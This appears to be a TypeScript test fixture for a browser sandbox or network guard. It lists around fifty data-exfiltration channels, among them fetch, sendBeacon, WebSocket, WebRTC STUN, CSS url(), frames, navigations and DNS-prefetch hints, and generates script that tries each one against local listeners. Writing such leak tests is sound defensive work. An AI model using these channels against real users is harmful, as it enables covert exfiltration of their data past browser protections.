// Ways out of a browser, as hostile JavaScript would try them. Each must be heard without the guard.
import { type Listeners } from './listeners.ts'

/**
 * Bodies of functions by channel. `hit(name)` is the address that counts for the channel, `tcp` is the
 * `host:port` of bare connections, `sendStun(window, name)` asks a STUN server over UDP, `el(tag, properties)` appends an element.
 */
type Channels = Record<string, string>

/** Work in a document and in a worker. */
const ANYWHERE: Channels = {
  fetch: `fetch(hit('fetch'), { mode: 'no-cors', method: 'POST', body: 'secret' })`,
  'fetch-keepalive': `fetch(hit('fetch-keepalive'), { mode: 'no-cors', keepalive: true })`,
  xhr: `const x = new XMLHttpRequest(); x.open('GET', hit('xhr')); x.send()`,
  websocket: `new WebSocket(hit('websocket').replace('http', 'ws'))`,
  eventsource: `new EventSource(hit('eventsource'))`,
  import: `import(hit('import')).catch(() => {})`,
  webtransport: `new WebTransport('https://127.0.0.1:' + udp.webtransport).ready.catch(() => {})`,
  'nested-worker': `new Worker(URL.createObjectURL(new Blob([
    "fetch('" + hit('nested-worker') + "', { mode: 'no-cors' })"])))`,
}

const IN_WORKERS: Channels = {
  importscripts: `importScripts(hit('importscripts'))`,
  'font-in-worker': `new FontFace('x', 'url("' + hit('font-in-worker') + '")').load().catch(() => {})`,
  'xhr-sync': `const x = new XMLHttpRequest(); x.open('GET', hit('xhr-sync'), false); x.send()`,
}

const IN_DOCUMENTS: Channels = {
  'fetch-later': `fetchLater(hit('fetch-later'), { activateAfter: 0 })`,
  beacon: `navigator.sendBeacon(hit('beacon'), 'secret')`,
  image: `new Image().src = hit('image')`,
  'image-element': `el('img', { src: hit('image-element') })`,
  stylesheet: `el('link', { rel: 'stylesheet', href: hit('stylesheet') })`,
  'css-import': `el('style', { textContent: '@import "' + hit('css-import') + '"' })`,
  'css-background': `el('p', { textContent: 'x', style: 'display:block;background:url("' + hit('css-background') + '")' })`,
  font: `new FontFace('x', 'url("' + hit('font') + '")').load().catch(() => {})`,
  script: `el('script', { src: hit('script') })`,
  video: `el('video', { src: hit('video'), preload: 'auto' })`,
  audio: `el('audio', { src: hit('audio'), preload: 'auto' })`,
  poster: `el('video', { poster: hit('poster') })`,
  'image-set': `el('img', { srcset: hit('image-set') + ' 1x' })`,
  'input-image': `el('input', { type: 'image', src: hit('input-image') })`,
  'css-font': `el('style', { textContent: '@font-face{font-family:y;src:url("' + hit('css-font') + '")}' }),
    el('p', { textContent: 'y', style: 'font-family:y' })`,
  'css-list': `el('li', { textContent: 'x', style: 'display:list-item;list-style-image:url("' + hit('css-list') + '")' })`,
  'css-mask': `el('p', { textContent: 'x', style: 'mask-image:url("' + hit('css-mask') + '")' })`,
  object: `el('object', { data: hit('object') })`,
  embed: `el('embed', { src: hit('embed') })`,
  'nested-frame': `el('iframe', { src: hit('nested-frame') })`,
  'nested-frame-source': `el('iframe', { srcdoc: '<img src="' + hit('nested-frame-source') + '">' })`,
  prefetch: `el('link', { rel: 'prefetch', href: hit('prefetch') })`,
  preload: `el('link', { rel: 'preload', as: 'image', href: hit('preload') })`,
  modulepreload: `el('link', { rel: 'modulepreload', href: hit('modulepreload') })`,
  form: `const t = el('iframe', { name: 'target' }); const f = el('form', { action: hit('form'), target: 'target' }); f.submit()`,
  popup: `open(hit('popup'))`,
  'anchor-blank': `el('a', { href: hit('anchor-blank'), target: '_blank' }).click()`,
  webrtc: `sendStun(globalThis, 'webrtc')`,
  'nested-webrtc': `sendStun(el('iframe', {}).contentWindow, 'nested-webrtc')`,
}

/** Each of these leaves the document, so each is tried in a frame of its own. */
export const NAVIGATIONS: Channels = {
  location: `location.href = hit('location')`,
  'location-replace': `location.replace(hit('location-replace'))`,
  'meta-refresh': `el('meta', { httpEquiv: 'refresh', content: '0;url=' + hit('meta-refresh') })`,
  anchor: `el('a', { href: hit('anchor') }).click()`,
  'anchor-ping': `el('a', { href: '#x', ping: hit('anchor-ping') }).click()`,
  'form-self': `el('form', { action: hit('form-self') }).submit()`,
  'open-self': `open(hit('open-self'), '_self')`,
  'top-location': `top.location.href = hit('top-location')`,
  'parent-open': `open(hit('parent-open'), '_parent')`,
}

/**
 * Hints open a connection, or ask a name server, before anything is requested. A private window, which every other test
 * uses, ignores them.
 */
export const HINTS: Channels = {
  preconnect: `el('link', { rel: 'preconnect', href: 'http://' + tcp })`,
  'preconnect-name': `el('link', { rel: 'preconnect', href: 'http://preconnect.leak.test' })`,
  'dns-prefetch': `el('link', { rel: 'dns-prefetch', href: 'http://dns-prefetch.leak.test' })`,
}

/** What each realm tries at once, in one go. */
export const TRIED = {
  frame: { ...ANYWHERE, ...IN_DOCUMENTS },
  worker: { ...ANYWHERE, ...IN_WORKERS },
}

/** Script text that tries every channel of a realm and logs `trying <realm> <channel>` for each. */
export function writeAttack(realm: string, channels: Channels, { http, tcpPort, udpPorts }: Listeners): string {
  return `;(async () => {
    const hit = (name) => ${JSON.stringify(http)} + '/' + name
    const tcp = '127.0.0.1:${tcpPort}', udp = ${JSON.stringify(udpPorts)}
    const peers = (globalThis.keptPeers ??= [])
    const sendStun = (realm, name) => {
      const peer = new realm.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp[name] }] })
      peers.push(peer)
      peer.createDataChannel('x')
      peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    }
    const el = (tag, properties) => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(properties)) {
        if (name in element && name !== 'style') element[name] = value
        else element.setAttribute(name, value)
      }
      ;(document.body ?? document.documentElement).append(element)
      return element
    }
    const channels = { ${Object.entries(channels)
      .map(([name, body]) => `${JSON.stringify(name)}: () => { ${body} }`)
      .join(',\n')} }
    for (const [name, attempt] of Object.entries(channels)) {
      console.log('trying ${realm} ' + name)
      try { attempt() } catch {}
    }
  })();`
}
